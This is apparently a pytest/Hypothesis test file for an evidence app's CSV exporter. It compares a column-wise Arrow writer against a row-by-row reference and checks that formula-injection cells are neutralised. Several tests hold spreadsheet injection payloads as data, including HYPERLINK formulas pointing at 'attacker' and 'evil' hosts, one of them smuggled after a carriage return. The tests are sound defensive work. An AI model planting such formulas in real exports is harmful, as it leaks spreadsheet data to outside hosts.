"""CSV extracts are evidence: the column-wise writer must give the bytes the value-by-value one gave."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evidence_app.columns.text import TEXT_DTYPE
from evidence_app.formatting import iso_utc, iso_utc_column, iso_utc_text
from evidence_app.render import _arrow_csv, _csv_value, plain, to_csv


def reference_csv(frame: pd.DataFrame) -> str:
    """The writer as it was: every value through plain(), row by row; a row ends in \n, and a cell holding a CR
    is quoted too (the csv module quotes what its line terminator holds: each row is written with \r\n, which
    is then cut back to \n)."""
    out = []
    for row in [list(frame.columns), *frame.itertuples(index=False, name=None)]:
        values: list[Any] = [plain(v) for v in row]
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\r\n").writerow(
            ["" if v is None else _spreadsheet_safe(v) if isinstance(v, str) else _csv_value(v) for v in values])
        out.append(buf.getvalue().removesuffix("\r\n") + "\n")
    return "".join(out)


def _spreadsheet_safe(text: str) -> str:
    """OWASP, written out: a text cell starting = + - @ tab or CR gets a leading quote; so does one whose = + - @
    (or their full-width forms) stands behind whitespace a spreadsheet may trim (security round 2)."""
    blanks = "\t\n\r\x0b\x0c \x85\xa0\u1680\u2028\u2029\u202f\u205f\u3000\ufeff" + "".join(
        chr(c) for c in range(0x2000, 0x200C))
    starts = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    return "'" + text if text[:1] in ("\t", "\r") or text.lstrip(blanks)[:1] in starts else text


texts = st.text(alphabet=st.sampled_from(list('ab,"\n\r é=+-@\t') + ["\u2028"]), max_size=6)


odd_values = st.sampled_from([float("nan"), pd.NA, pd.NaT, np.float64(1.0), 3, 2.5, 'x"', "a,b"])


@st.composite
def frames(draw, texts=texts) -> pd.DataFrame:  # noqa: ANN001 - a Hypothesis strategy of text
    """Frames of every column kind the writer knows, text drawn from ``texts``; an object column now and then holds
    an odd value (NaN, pd.NA, NaT, a NumPy float, a number, a quote or comma)."""
    n = draw(st.integers(0, 8))

    def column(kind: str) -> pd.Series:
        if kind == "text":
            return pd.Series(draw(st.lists(texts | st.none(), min_size=n, max_size=n)), dtype=TEXT_DTYPE)
        if kind == "int":
            return pd.Series(draw(st.lists(st.integers(-(2**63), 2**63 - 1), min_size=n, max_size=n)),
                             dtype="int64")
        if kind == "Int64":
            return pd.Series(draw(st.lists(st.integers(-99, 99) | st.none(), min_size=n, max_size=n)), dtype="Int64")
        if kind == "float":
            return pd.Series(draw(st.lists(st.floats(allow_infinity=True) | st.none(), min_size=n, max_size=n)),
                             dtype="float64")
        if kind == "bool":
            return pd.Series(draw(st.lists(st.booleans(), min_size=n, max_size=n)), dtype=bool)
        if kind == "boolean":
            return pd.Series(draw(st.lists(st.booleans() | st.none(), min_size=n, max_size=n)), dtype="boolean")
        values = draw(st.lists(texts | st.none() | st.integers() | st.floats(), min_size=n, max_size=n))
        if values and draw(st.booleans()):
            values[draw(st.integers(0, n - 1))] = draw(odd_values)
        return pd.Series(values, dtype=object)

    kinds = draw(st.lists(st.sampled_from(["text", "int", "Int64", "float", "bool", "boolean", "object"]),
                          min_size=1, max_size=5))
    return pd.DataFrame({f"c{i}": column(k) for i, k in enumerate(kinds)})


@settings(max_examples=400, deadline=None)
@given(frame=frames())
def test_column_wise_csv_equals_the_value_by_value_csv(frame):
    assert to_csv(frame) == reference_csv(frame)


def test_a_text_with_comma_quote_and_newline_is_quoted_once():
    frame = pd.DataFrame({"a": pd.Series(['x,"y"\nz', None], dtype=TEXT_DTYPE), "b": [1.5, np.nan]})
    assert to_csv(frame) == 'a,b\n"x,""y""\nz",1.5\n,\n'


@settings(max_examples=300, deadline=None)
@given(values=st.lists(st.datetimes(timezones=st.just(timezone.utc)) | st.none(), max_size=10))
def test_timestamps_written_at_once_equal_iso_utc_value_by_value(values):
    column = pd.Series(pd.array(values, dtype="datetime64[us, UTC]"))
    assert iso_utc_column(column).tolist() == [iso_utc(t) for t in column]


plain_texts = st.text(alphabet=st.sampled_from(list("ab -:é/.") + ["\u2028", "\t"]), max_size=6)


@settings(max_examples=400, deadline=None)
@given(frame=frames(plain_texts))
def test_frames_with_nothing_to_quote_give_the_value_by_value_csv(frame):
    """Text with nothing to quote (the shape of the big extracts): Arrow's writer, unless an odd value sends the
    frame back to the csv module."""
    assert to_csv(frame) == reference_csv(frame)


def test_plain_text_and_numbers_go_through_arrow_and_read_the_same():
    frame = pd.DataFrame({"id": pd.Series(["op-1", None, ""], dtype=TEXT_DTYPE), "n": [1, -2, 2**62],
                          "at": pd.Series(["2026-10-01T12:00:00Z", None, "x"], dtype=object)})
    assert _arrow_csv(frame) == "id,n,at\nop-1,1,2026-10-01T12:00:00Z\n,-2,\n,4611686018427387904,x\n"
    assert to_csv(frame) == reference_csv(frame)


def test_other_values_go_through_arrow_as_the_csv_module_would_write_them():
    frame = pd.DataFrame({"a": [1.5, np.nan], "b": pd.Series([pd.NA, 2.0], dtype=object), "c": [True, False],
                          "d": pd.Series([None, 7], dtype="Int64")})
    assert _arrow_csv(frame) == "a,b,c,d\n1.5,<NA>,True,<NA>\n,2.0,False,7\n"
    assert to_csv(frame) == reference_csv(frame)


def test_what_the_csv_module_would_quote_stays_with_the_csv_module():
    text = pd.Series(["a"], dtype=TEXT_DTYPE)
    assert _arrow_csv(pd.DataFrame({"only": text})) is None  # one column: the csv module quotes an empty row
    assert _arrow_csv(pd.DataFrame({"a": text, "b": pd.Series(['q"'], dtype=TEXT_DTYPE)})) is None
    assert _arrow_csv(pd.DataFrame({"a,b": text, "c": text})) is None  # a header that needs quoting


@settings(max_examples=300, deadline=None)
@given(values=st.lists(st.datetimes(min_value=datetime(1000, 1, 1), timezones=st.just(timezone.utc)) | st.none(),
                       max_size=10))
def test_timestamps_as_arrow_text_equal_iso_utc_value_by_value(values):
    column = pd.Series(pd.array(values, dtype="datetime64[us, UTC]"))
    text = iso_utc_text(column)
    assert text.dtype == TEXT_DTYPE
    assert [None if pd.isna(v) else v for v in text.tolist()] == [iso_utc(t) for t in column]


def test_timestamps_before_1970_keep_their_microsecond_field():
    column = pd.Series(pd.to_datetime(["1969-12-31T23:59:59.000001Z", "1969-12-31T23:59:58.5Z", None], utc=True))
    assert iso_utc_text(column).tolist()[:2] == ["1969-12-31T23:59:59.000001Z", "1969-12-31T23:59:58.500000Z"]


def test_arrow_refuses_unquoted_every_character_the_csv_module_quotes():
    """The Arrow path relies on Arrow refusing, unquoted, what the csv module would quote: each such character,
    anywhere in any value, sends the frame back to the csv module."""
    for ch in ',"\n\r':
        for value in (ch, f"a{ch}", f"{ch}b", f"a{ch}b"):
            frame = pd.DataFrame({"a": pd.Series(["x", value], dtype=TEXT_DTYPE), "b": [1, 2]})
            assert _arrow_csv(frame) is None
            assert to_csv(frame) == reference_csv(frame)


def test_text_arrow_cannot_hold_is_written_as_the_csv_module_writes_it():
    """A lone surrogate (json.loads gives one for "\\ud800" in a Worker log) is not UTF-8: no error from the
    Arrow path, the same text as before."""
    frame = pd.DataFrame({"a": pd.Series(["x\ud800y", None], dtype=object), "b": [1, 2]})
    assert _arrow_csv(frame) is None
    assert to_csv(frame) == reference_csv(frame)
    python_text = pd.DataFrame({"a": pd.Series(["x\udc80"], dtype="string[python]"), "b": [1]})
    assert to_csv(python_text) == reference_csv(python_text)


@settings(max_examples=200, deadline=None)
@given(micros=st.lists(st.integers(-30_610_224_000_000_000, 253_402_300_799_999_999) | st.none(), max_size=40))
def test_timestamps_written_digit_by_digit_equal_numpys_own_iso_text(micros):
    """The byte-buffer writer against NumPy's datetime strings joined in Arrow, over years 1000–9999 (leap days,
    century rules, before 1970, whole seconds and microseconds, missing values)."""
    from evidence_app.formatting import _iso_bytes, _iso_joined

    us = np.array([m if m is not None else np.iinfo(np.int64).min for m in micros], dtype=np.int64).view("datetime64[us]")
    missing = np.isnat(us)
    assert _iso_bytes(us.astype(np.int64), missing).to_pylist() == _iso_joined(us, missing).to_pylist()


def test_five_digit_years_keep_numpys_text():
    column = pd.Series(pd.array(np.array(["12000-01-01T00:00:00.5", "NaT"], dtype="datetime64[us]"))).dt.tz_localize("UTC")
    assert iso_utc_text(column).tolist()[0] == "12000-01-01T00:00:00.500000Z"


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1,"details")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
@pytest.mark.parametrize("dtype", [TEXT_DTYPE, object, "category"])
def test_a_formula_in_a_text_cell_is_neutralised_for_spreadsheets(cell, dtype):
    frame = pd.DataFrame({"operator": pd.Series([cell, "plain"], dtype=dtype), "n": [-1, 2]})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows[1] == ["'" + cell, "-1"] and rows[2] == ["plain", "2"]


def test_numbers_and_text_that_only_contains_formula_characters_are_untouched():
    frame = pd.DataFrame({"t": pd.Series(["a=b", "x-1", "", None], dtype=TEXT_DTYPE), "n": [-1.5, -2.0, 0.0, 1.0],
                          "i": [-1, -2, -3, 4]})
    assert to_csv(frame) == "t,n,i\na=b,-1.5,-1\nx-1,-2.0,-2\n,0.0,-3\n,1.0,4\n"


@pytest.mark.parametrize("dtype", [TEXT_DTYPE, object])
def test_a_carriage_return_inside_a_cell_cannot_forge_a_row(dtype):
    """The csv module leaves a lone CR bare when rows end in \\n; a spreadsheet ends the row there, so
    'x\\r=HYPERLINK(…)' would become a row of its own beginning with a live formula. Such a cell is quoted."""
    frame = pd.DataFrame({"operator": pd.Series(["x\r=HYPERLINK(\"http://evil/\")", "ok"], dtype=dtype), "n": [1, 2]})
    text = to_csv(frame)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["operator", "n"], ["x\r=HYPERLINK(\"http://evil/\")", "1"], ["ok", "2"]]
    assert text.count("\n") == 3


def test_the_cli_csv_neutralises_a_hostile_operator_and_json_keeps_it_raw(scenario):
    hostile = '=HYPERLINK("http://attacker/?"&A1,"details")'
    scenario.op("o1", user=hostile).op("o2", user="-1+1")
    rows = list(csv.DictReader(io.StringIO(scenario.cli("exceptions", "--format", "csv").stdout)))
    assert sorted(r["operator"] for r in rows) == sorted(["'" + hostile, "'-1+1"])
    assert sorted(r["operator"] for r in scenario.json("exceptions")) == sorted([hostile, "-1+1"])
